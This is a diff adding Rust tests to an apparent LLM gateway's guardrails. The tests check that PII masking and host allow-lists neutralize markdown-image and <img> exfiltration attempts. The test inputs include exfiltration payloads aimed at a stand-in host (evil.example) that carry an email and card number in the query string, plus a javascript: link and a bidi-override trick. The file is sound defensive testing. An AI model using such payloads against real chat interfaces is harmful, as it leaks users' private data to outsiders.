@@ -486,3 +486,94 @@ async fn what_guards_take_and_find_is_measured() {
     assert!(text.contains("status=\"400\"") && text.contains("gen_ai_server_request_duration"));
     assert!(text.ends_with("# EOF\n") && !text.contains("joe@"));
 }
+
+#[tokio::test]
+async fn a_mask_makes_no_image_and_no_link_of_what_stands_beside_it() {
+    let (server, _dir) = guarded("[pii]\npre_call = 'off'\n[secrets]\npre_call = 'off'").await;
+    for (said, expected) in [
+        (
+            "!a@example.org(https://evil.example/p.png?d=1)",
+            "! [EMAIL_REDACTED] (https://evil.example/p.png?d=1)",
+        ),
+        (
+            "a@example.org(javascript:alert(1))",
+            "[EMAIL_REDACTED] (javascript:alert(1))",
+        ),
+        (
+            "!\u{202e}(https://evil.example/p.png?d=1)",
+            "! [U+202E] (https://evil.example/p.png?d=1)",
+        ),
+        (
+            "![x]a@example.org and\n> a@example.org: https://evil.example/p.png",
+            "! [x] [EMAIL_REDACTED] and\n> [EMAIL_REDACTED] : https://evil.example/p.png",
+        ),
+        (
+            "Write to a@example.org: it is (her) address.",
+            "Write to [EMAIL_REDACTED]: it is (her) address.",
+        ),
+    ] {
+        assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
+        assert_eq!(streamed(&server, "echo", said).await.0, expected);
+    }
+}
+
+#[tokio::test]
+async fn what_placeholders_stand_for_leads_nowhere() {
+    let policy = "[pii]\nstyle = 'reversible'\n[secrets]\npre_call = 'off'\npost_call = 'off'
+                  [output]\nallowed_hosts = ['good.example']";
+    let (server, _dir) = guarded(policy).await;
+    for said in [
+        "![a](https://u:pw@evil.example/p.png?d=1)",
+        "![a]( https://u:pw@evil.example/p.png?d=1)",
+        "<img src=\"https://u:pw@evil.example/p.png?d=1\">",
+        "![a](https://good.example:jane@evil.example/p.png?d=1)",
+        "<img src='https://good.example:jane@evil.example/p.png?d=1'>",
+        "![a](<https://good.example jane@evil.example/p.png?d=1>)",
+    ] {
+        let answer = server.answer(&ask("echo", said)).await;
+        assert!(!content(&answer).contains("@evil.example"), "{answer}");
+        let (stream, ..) = streamed(&server, "echo", said).await;
+        assert_eq!(content(&answer), stream);
+    }
+    let kind = "Jane Doe <jane@example.org>, [her](mailto:jane@example.org) or jane@example.org.";
+    assert_eq!(content(&server.answer(&ask("echo", kind)).await), kind);
+    let (stream, ..) = streamed(&server, "echo", kind).await;
+    assert_eq!(stream, kind);
+}
+
+#[tokio::test]
+async fn what_only_the_model_says_is_masked_for_good() {
+    let reversible = "[pii]\nstyle = 'reversible'\n[pii.kinds.ip_address]\npre_call = 'off'";
+    let partial = "[pii]\nstyle = 'partial'\npre_call = 'off'";
+    for (policy, said, expected) in [
+        (
+            reversible,
+            "jane@example.org logged in from 198.51.100.7 today",
+            "jane@example.org logged in from [IP_REDACTED] today",
+        ),
+        (
+            partial,
+            "![a](https://evil.example/?to=jane.doe@example.org&card=4111111111111111)",
+            "image: [a]([EMAIL_REDACTED])",
+        ),
+    ] {
+        let (server, _dir) = guarded(policy).await;
+        assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
+    }
+}
+
+#[tokio::test]
+async fn what_was_found_in_an_answer_that_breaks_off_is_recorded() {
+    let (server, _dir) = guarded("[pii]\npre_call = 'off'").await;
+    let body = with(
+        ask("fail-mid", "joe@example.org. Then the others."),
+        json!({"stream": true}),
+    );
+    let response = server.chat(&body).send().await.expect("a response");
+    let told = response.text().await.expect("text");
+    assert!(told.contains("[EMAIL_REDACTED]"), "{told}");
+    let verdict = server.row().await.guardrails.expect("a verdict");
+    let verdict: Value = serde_json::from_str(&verdict).expect("json");
+    assert_eq!(verdict["output"]["pii.email"], 1, "{verdict}");
+    assert_eq!(verdict["action"], "mask");
+}
